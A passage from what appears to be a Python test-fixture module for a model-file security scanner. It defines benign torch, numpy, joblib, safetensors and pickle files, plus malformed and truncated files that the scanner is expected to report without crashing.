    torch.save(_torch_state_dict(), path)


def _write_torch_nested(path: Path) -> None:
    import collections

    import torch

    torch.save(
        {
            "model": _torch_state_dict(),
            "extra": collections.OrderedDict(
                [("scale", torch.tensor(2.0)), ("ids", torch.arange(5))]
            ),
            "epoch": 7,
            "name": "run-1",
            "optimizer": {"lr": 0.1, "betas": (0.9, 0.999), "steps": [1, 2, 3]},
        },
        path,
    )


def _write_torch_legacy(path: Path) -> None:
    import torch

    torch.save(_torch_state_dict(), path, _use_new_zipfile_serialization=False)


def _np_arrays():
    import numpy as np

    return {"w": np.arange(6, dtype=np.float32).reshape(2, 3), "b": np.zeros(3, dtype=np.int64)}


def _write_npy(path: Path) -> None:
    import numpy as np

    np.save(path, _np_arrays()["w"])


def _write_npz(path: Path) -> None:
    import numpy as np

    np.savez(path, **_np_arrays())


def _write_npz_compressed(path: Path) -> None:
    import numpy as np

    np.savez_compressed(path, **_np_arrays())


def _write_joblib(value: Callable[[], object], **kwargs) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        import joblib

        joblib.dump(value(), path, **kwargs)

    return write


def _write_safetensors_numpy(path: Path) -> None:
    from safetensors.numpy import save_file

    save_file(_np_arrays(), str(path), metadata={"format": "np"})


def _write_safetensors_torch(path: Path) -> None:
    from safetensors.torch import save_file

    save_file({k: v.contiguous() for k, v in _torch_state_dict().items()}, str(path))


BENIGN: list[Case] = [
    _file_case(
        "torch_state_dict_zip",
        ".pt",
        _write_torch_state_dict,
        load_torch,
        "torch.save of a state_dict (zip format, _rebuild_tensor_v2 + persistent ids)",
        ("torch",),
    ),
    _file_case(
        "torch_nested_dict_zip",
        ".pth",
        _write_torch_nested,
        load_torch,
        "torch.save of a nested dict with tensors, ints, strings, tuples, OrderedDict",
        ("torch",),
    ),
    _file_case(
        "torch_state_dict_legacy",
        ".pt",
        _write_torch_legacy,
        load_torch,
        "legacy non-zip torch.save: five pickles plus raw storage bytes",
        ("torch",),
    ),
    _file_case(
        "numpy_npy", ".npy", _write_npy, load_numpy, "numpy.save of a float32 array", ("numpy",)
    ),
    _file_case(
        "numpy_npz", ".npz", _write_npz, load_numpy, "numpy.savez of two arrays", ("numpy",)
    ),
    _file_case(
        "numpy_npz_compressed",
        ".npz",
        _write_npz_compressed,
        load_numpy,
        "numpy.savez_compressed (deflated members)",
        ("numpy",),
    ),
    *[_pickle_stdlib(p) for p in range(pickle.HIGHEST_PROTOCOL + 1)],
    _pickle_numpy(2),
    _pickle_numpy(5),
    _file_case(
        "joblib_numpy_dict",
        ".joblib",
        _write_joblib(_np_arrays),
        load_joblib,
        "joblib.dump of a dict of numpy arrays (NumpyArrayWrapper + inline array bytes)",
        ("joblib", "numpy"),
    ),
    _file_case(
        "joblib_numpy_dict_compress3",
        ".joblib",
        _write_joblib(_np_arrays, compress=3),
        load_joblib,
        "joblib.dump(compress=3): zlib-compressed pickle stream",
        ("joblib", "numpy"),
    ),
    _file_case(
        "joblib_list",
        ".joblib",
        _write_joblib(lambda: [1, "two", 3.0, None]),
        load_joblib,
        "joblib.dump of a plain list",
        ("joblib",),
    ),
    _file_case(
        "safetensors_numpy",
        ".safetensors",
        _write_safetensors_numpy,
        load_safetensors_numpy,
        "safetensors.numpy.save_file with metadata",
        ("safetensors", "numpy"),
    ),
    _file_case(
        "safetensors_torch",
        ".safetensors",
        _write_safetensors_torch,
        load_safetensors_torch,
        "safetensors.torch.save_file of a state_dict",
        ("safetensors", "torch"),
    ),
]


# --------------------------------------------------------------------------------------
# Malformed and truncated files: the loader raises; nothing dangerous inside.
# --------------------------------------------------------------------------------------


def truncate(
    src: Path, out_dir: Path, cuts: Sequence[float] = (1, 0.25, 0.5, 0.9, -1)
) -> list[Path]:
    """Truncated copies of ``src``: an int ``n >= 0`` keeps n bytes, a negative int drops
    that many bytes from the end, a float keeps that fraction of the file."""
    data = Path(src).read_bytes()
    paths = []
    for cut in cuts:
        if isinstance(cut, float):
            keep = int(len(data) * cut)
        elif cut < 0:
            keep = len(data) + cut
        else:
            keep = cut
        keep = max(0, min(keep, len(data) - 1))
        path = Path(out_dir) / f"{Path(src).stem}.cut{keep}{Path(src).suffix}"
        path.write_bytes(data[:keep])
        paths.append(path)
    return paths


def _truncated_case(source: Case, cut: float, label: str) -> Case:
    def build(out_dir: Path, marker: Path) -> Path:
        scratch = Path(out_dir) / f"_src_{source.name}"
        scratch.mkdir(exist_ok=True)
        src = source.build(scratch, marker)
        (path,) = truncate(src, Path(out_dir), [cut])
        final = path.with_name(f"truncated_{source.name}_{label}{src.suffix}")
        path.rename(final)
        for leftover in scratch.iterdir():
            leftover.unlink()
        scratch.rmdir()
        return final

    return Case(
        f"truncated_{source.name}_{label}",
        build,
        source.load,
        f"{source.name} cut to {label}: loader fails, scanner must report malformed, not crash",
        source.needs,
        load_ok=False,
    )


def _safetensors_bytes(header: bytes | dict, data: bytes, declared_len: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if declared_len is None else declared_len) + raw + data


_MALFORMED_PICKLES = {
    "malformed_bad_opcode": (proto(2) + NONE + b"\xff" + STOP, "0xff is not an opcode"),
    "malformed_stack_underflow": (
        proto(2) + binint(1) + TUPLE2 + STOP,
        "TUPLE2 with one item on the stack",
    ),
    "malformed_memo_missing": (proto(2) + binget(7) + STOP, "BINGET of a memo index never stored"),
    "malformed_stack_global_non_str": (
        assemble(4, binint(1), binint(2), STACK_GLOBAL),
        "STACK_GLOBAL with int module and name",
    ),
    "malformed_protocol_6": (proto(6) + NONE + STOP, "PROTO 6 is not supported"),
    "malformed_empty_file": (b"", "zero-byte file"),
}

_F32x4 = struct.pack("<4f", 1, 2, 3, 4)
_MALFORMED_SAFETENSORS = {
    "malformed_safetensors_header_too_long": (
        _safetensors_bytes(
            {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}},
            _F32x4,
            declared_len=1 << 20,
        ),
        "header length field larger than the file",
    ),
    "malformed_safetensors_bad_json": (
        _safetensors_bytes(b'{"w": {"dtype": "F32", "shape": [4], ', _F32x4),
        "header is not JSON",
    ),
    "malformed_safetensors_offsets_past_end": (
        _safetensors_bytes({"w": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}, _F32x4),
        "data_offsets end past the end of the file",
    ),
    "malformed_safetensors_shape_mismatch": (
        _safetensors_bytes(
            {"w": {"dtype": "F32", "shape": [3, 3], "data_offsets": [0, 16]}}, _F32x4
        ),
        "F32 [3,3] needs 36 bytes but the range holds 16",
    ),
}

_BENIGN_BY_NAME = {case.name: case for case in BENIGN}

MALFORMED: list[Case] = [
    *[
        _bytes_case(name, ".pkl", (lambda _m, d=data: d), why, load_ok=False)
        for name, (data, why) in _MALFORMED_PICKLES.items()
    ],
    *[
        _bytes_case(
            name,
            ".safetensors",
            (lambda _m, d=data: d),
            why,
            load=load_safetensors_numpy,
            needs=("safetensors", "numpy"),
            load_ok=False,
        )
        for name, (data, why) in _MALFORMED_SAFETENSORS.items()
    ],
    *[
        _truncated_case(_BENIGN_BY_NAME[src], cut, label)
        for src in (
            "pickle_stdlib_p0",
            "pickle_stdlib_p4",
            "torch_state_dict_zip",
            "numpy_npy",
            "joblib_numpy_dict",
            "safetensors_numpy",
        )
        for cut, label in ((1, "1byte"), (0.5, "half"), (-1, "minus1"))
    ],
]

ALL_CASES: dict[str, Case] = {case.name: case for case in (*MALICIOUS, *BENIGN, *MALFORMED)}
assert len(ALL_CASES) == len(MALICIOUS) + len(BENIGN) + len(MALFORMED), "duplicate case names"
